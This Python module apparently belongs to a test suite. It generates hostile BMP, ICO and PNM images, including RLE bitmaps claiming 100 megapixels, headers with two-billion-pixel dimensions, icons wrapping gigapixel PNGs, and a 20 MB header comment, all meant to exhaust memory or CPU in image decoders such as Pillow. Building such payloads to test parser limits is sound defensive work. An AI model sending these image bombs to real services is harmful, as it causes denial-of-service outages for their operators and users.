"""Hostile BMP, ICO and PNM."""

from __future__ import annotations

import struct

from bombs.png import RGBA, png
from bombs.register import FAR_PX, SIDE_PX, bomb, zeros


def bmp(width: int, height: int, bits: int, compression: int, content: bytes) -> bytes:
    table = bytes(4 << bits) if bits <= 8 else b""
    fields = (40, width, height, 1, bits, compression, len(content), 0, 0, 0, 0)
    head = struct.pack("<IiiHHIIiiII", *fields) + table
    at = 14 + len(head)
    return b"BM" + struct.pack("<IHHI", at + len(content), 0, 0, at) + head + content


@bomb(".bmp")
def bmp_rle_line_ends() -> bytes:
    """100 megapixels of which each row is one pixel and the end of the line."""
    return bmp(60_000, 1_600, 8, 1, b"\1\0\0\0" * 1_600)


@bomb(".bmp")
def bmp_rle_runs() -> bytes:
    """100 megapixels in runs of 255."""
    return bmp(SIDE_PX, SIDE_PX, 8, 1, (b"\xff\0" * 40 + b"\0\0") * SIDE_PX)


@bomb(".bmp")
def bmp_rle_pixels() -> bytes:
    """One megapixel in runs of one pixel, as noise would be."""
    return bmp(1_000, 1_000, 8, 1, (b"\1\0" * 1_000 + b"\0\0") * 1_000)


@bomb(".bmp")
def bmp_rle_steps() -> bytes:
    """100 megapixels of steps of 255 rows."""
    return bmp(SIDE_PX, SIDE_PX, 4, 2, b"\0\2\0\xff" * 99)


@bomb(".bmp")
def bmp_less_data() -> bytes:
    """100 megapixels in the header, one in the file."""
    return bmp(SIDE_PX, SIDE_PX, 24, 0, bytes(3))


@bomb(".bmp")
def bmp_far() -> bytes:
    """A width and height of two thousand million."""
    return bmp(2**31 - 1, -(2**31), 24, 0, bytes(3))


def ico(content: bytes, count: int = 1) -> bytes:
    entry = struct.pack("<BBBBHHII", 16, 16, 0, 0, 1, 32, len(content), 6 + 16 * count)
    return struct.pack("<HHH", 0, 1, count) + entry * count + content


@bomb(".ico")
def ico_png() -> bytes:
    """An icon of 16×16 that is a PNG of 100 megapixels."""
    return ico(png(SIDE_PX, SIDE_PX, RGBA))


@bomb(".ico")
def ico_png_50000() -> bytes:
    """An icon of 16×16 that is a PNG of 2.5 gigapixels."""
    return ico(png(FAR_PX, FAR_PX, RGBA, packed=zeros(10**7)))


@bomb(".ico")
def ico_entries() -> bytes:
    """65,535 entries, all the same PNG of 49 megapixels."""
    return ico(png(7_000, 7_000, RGBA), 65_535)


@bomb(".ico")
def ico_bitmap() -> bytes:
    """An icon of 16×16 that is a bitmap of 100 megapixels."""
    return ico(bmp(SIDE_PX, 2 * SIDE_PX, 32, 0, bytes(64))[14:])


@bomb(".ppm")
def pnm_lie() -> bytes:
    """100 megapixels in the header and nothing behind it."""
    return b"P6 9999 9999 255\n"


@bomb(".ppm")
def pnm_far() -> bytes:
    """A header of ten digits by ten digits."""
    return b"P6 9999999999 9999999999 255\n"


@bomb(".pgm")
def pnm_odd_maximum() -> bytes:
    """Nine megapixels of a largest value that Pillow reads pixel by pixel in Python."""
    return b"P5 3000 3000 65534\n" + bytes(2 * 9_000_000)


@bomb(".ppm")
def pnm_odd_colours() -> bytes:
    """Nine megapixels of colour up to 100."""
    return b"P6 3000 3000 100\n" + bytes(3 * 9_000_000)


@bomb(".ppm")
def pnm_plain() -> bytes:
    """One megapixel written as text."""
    return b"P3 1000 1000 255\n" + b"1 " * 3_000_000


@bomb(".pgm")
def pnm_comment() -> bytes:
    """A comment of 20 MB in the header."""
    return b"P5 #" + b"x" * 20_000_000 + b"\n64 64 255\n" + bytes(4_096)


@bomb(".pbm")
def pnm_bits() -> bytes:
    """100 megapixels of one bit."""
    return b"P4 9999 9999\n" + bytes(1_250 * SIDE_PX)
